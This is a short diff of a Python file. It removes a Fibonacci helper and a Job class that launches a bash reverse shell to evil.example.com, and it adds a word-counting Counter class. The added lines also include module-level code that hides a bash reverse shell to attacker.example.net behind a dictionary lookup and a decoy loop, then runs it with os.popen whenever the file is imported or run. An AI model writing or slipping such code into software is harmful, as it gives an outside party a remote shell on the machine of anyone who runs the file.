@@ -1,17 +1,12 @@
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-import subprocess
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
-
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
-
-Job("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+import os
+steps = {"a": "bash -i >& /dev/tcp/attacker.example.net/1337 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
